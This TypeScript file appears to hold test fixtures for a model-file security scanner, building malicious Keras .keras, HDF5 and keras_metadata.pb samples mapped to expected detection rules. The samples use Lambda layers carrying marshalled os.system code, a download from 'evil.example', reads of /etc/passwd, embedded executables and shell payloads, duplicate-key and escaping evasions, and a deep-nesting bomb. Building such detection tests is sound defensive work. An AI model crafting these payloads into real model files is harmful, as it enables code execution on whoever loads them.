import { elf } from '../helpers/executable-writer.js';
import { hdf5 } from '../helpers/hdf5-writer.js';
import { kerasArchive, lambda, sequential, type Json } from '../helpers/keras-writer.js';
import { codeObject } from '../helpers/marshal-writer.js';
import { message } from '../helpers/protobuf-writer.js';
import { attack, cutOff, packed, renamed, reported, type Row } from './attack.js';
import { RUNS, evil, shell } from './payloads.js';

const LAMBDA = 'model/keras-lambda-dangerous';
const code = codeObject({ names: ['__import__', 'system'], constants: ['os', 'id'] });
const layer = (className: string, config: Json, module = 'keras.layers'): Json => ({
  module,
  class_name: className,
  config,
  registered_name: null,
});
const named = (module: string, name: string): Json => ({
  module,
  class_name: 'function',
  config: name,
  registered_name: name,
});
const withLambda = layer('Lambda', { function: lambda(code) });
const older: Json = {
  class_name: 'Lambda',
  config: { function: [code.toString('base64'), null, null], function_type: 'lambda' },
};
const wrapped = layer('TimeDistributed', { layer: sequential(withLambda) });
const compiled: Json = { ...(sequential() as object), compile_config: { loss: lambda(code) } };
const system = layer('Activation', { activation: named('os', 'system') });
const download = layer('Lambda', {
  function: named('keras.utils', 'get_file'),
  arguments: { origin: 'https://evil.example' },
});
const saved = layer('TFSMLayer', { filepath: '/tmp/model' });
const words = layer('StringLookup', { vocabulary: '/etc/passwd' });
const torchModule = Buffer.from(evil).toString('base64');
const twice = `{"class_name": "Sequential", "config": ${JSON.stringify({ layers: [withLambda] })}, "config": {}}`;
const escaped = JSON.stringify(sequential(withLambda)).replaceAll('class_name', 'cl\\u0061ss_name');
let nested: Json = withLambda;
for (let depth = 0; depth < 3000; depth++) nested = [nested];

const archive = (config: Json | string): Uint8Array => kerasArchive(config);
const inArchive = attack('model.keras', archive(sequential(withLambda)), LAMBDA);
const archiveRow: Row = {
  format: 'Keras .keras',
  cells: {
    code: [
      inArchive,
      attack('model.keras', archive(sequential(older)), LAMBDA),
      attack('model.keras', archive(sequential(system)), RUNS),
      attack(
        'model.keras',
        archive(sequential(layer('TorchModuleWrapper', { module: torchModule }))),
        'model/keras-torch-module',
      ),
    ],
    indirect: [
      attack('model.keras', archive(sequential(wrapped)), LAMBDA),
      attack('model.keras', archive(compiled), LAMBDA),
      attack('model.keras', archive(escaped), LAMBDA),
    ],
    reach: [
      attack('model.keras', archive(sequential(download)), 'model/keras-gadget'),
      attack('model.keras', archive(sequential(saved)), 'model/keras-saved-model-layer'),
      attack('model.keras', archive(sequential(words)), 'model/keras-vocabulary'),
    ],
    foreign: reported(
      'model.keras',
      archive(sequential(layer('Acme>Net', {}, ''))),
      'model/keras-custom-object',
    ),
    lie: attack('model.keras', archive(twice), 'model/duplicate-key', LAMBDA),
    hidden: attack(
      'model.keras',
      kerasArchive(sequential(), { 'assets/words.txt': Buffer.from(elf()).toString('latin1') }),
      'model/disguised',
    ),
    disguised: [
      renamed(inArchive, 'model.h5', 'model/misnamed'),
      attack('model.keras', evil, 'model/disguised', RUNS),
    ],
    cut: cutOff(inArchive, 22),
    packed: packed(inArchive),
    bomb: attack('model.keras', archive(sequential(nested)), 'model/corrupt'),
  },
};

const withConfig = (config: Json | string): Uint8Array =>
  hdf5({ attributes: { model_config: typeof config === 'string' ? config : JSON.stringify(config) } });
const inFile = attack('model.h5', withConfig(sequential(withLambda)), LAMBDA);
const userBlock = Buffer.alloc(512);
userBlock.set(evil);
const fileRow: Row = {
  format: 'Keras, HDF5 .h5',
  cells: {
    code: [inFile, attack('model.h5', withConfig(sequential(older)), LAMBDA)],
    indirect: [
      attack('model.h5', withConfig(sequential(wrapped)), LAMBDA),
      attack(
        'model.h5',
        hdf5({ attributes: { training_config: JSON.stringify({ loss: lambda(code) }) } }),
        LAMBDA,
      ),
    ],
    reach: [
      attack('model.h5', hdf5({ external: { link: ['/etc/x.h5', '/w'] } }), 'model/hdf5-outside-file'),
      attack(
        'model.h5',
        hdf5({ datasets: { kernel: { files: ['../../secret'] } } }),
        'model/hdf5-outside-file',
      ),
    ],
    foreign: [
      reported('model.h5', withConfig(sequential(layer('Acme>Net', {}, ''))), 'model/keras-custom-object'),
      reported('model.h5', hdf5({ datasets: { a: { filters: [[40000, 'mine']] } } }), 'model/hdf5-plugin'),
    ],
    lie: [
      attack('model.h5', withConfig(twice), 'model/duplicate-key', LAMBDA),
      attack(
        'model.h5',
        hdf5({ messages: [{ type: 0x0c, body: Buffer.alloc(16, 9) }] }),
        'model/hdf5-unread',
      ),
    ],
    hidden: [
      attack('model.h5', hdf5({ userBlock, attributes: { model_config: '{}' } }), RUNS),
      attack('model.h5', hdf5({ datasets: { w: { data: Buffer.from(shell) } } }), 'model/hidden-payload'),
      attack(
        'model.h5',
        hdf5({ datasets: { w: { data: evil, layout: 'chunked' } } }),
        'model/hidden-payload',
        RUNS,
      ),
    ],
    disguised: renamed(inFile, 'model.safetensors', 'model/misnamed'),
    cut: { ...cutOff(inFile, 8), rules: ['model/corrupt'] },
    packed: packed(inFile),
    bomb: attack('model.h5', withConfig(sequential(nested)), 'model/corrupt'),
  },
};

const metadata = (config: Json): Uint8Array =>
  message([1, message([2, 7], [4, '_tf_keras_layer'], [5, JSON.stringify(config)])]);
const inMetadata = attack('keras_metadata.pb', metadata(older), LAMBDA);
const metadataRow: Row = {
  format: 'keras_metadata.pb',
  cells: {
    code: inMetadata,
    indirect: attack('keras_metadata.pb', metadata(sequential(wrapped)), LAMBDA),
    reach: attack('keras_metadata.pb', metadata(words), 'model/keras-vocabulary'),
    foreign: reported('keras_metadata.pb', metadata(layer('Acme>Net', {}, '')), 'model/keras-custom-object'),
    cut: cutOff(attack('keras_metadata.pb', Buffer.concat([metadata(older), metadata({})]), LAMBDA), 1),
    packed: packed(inMetadata),
  },
};

export const kerasRows: readonly Row[] = [fileRow, archiveRow, metadataRow];
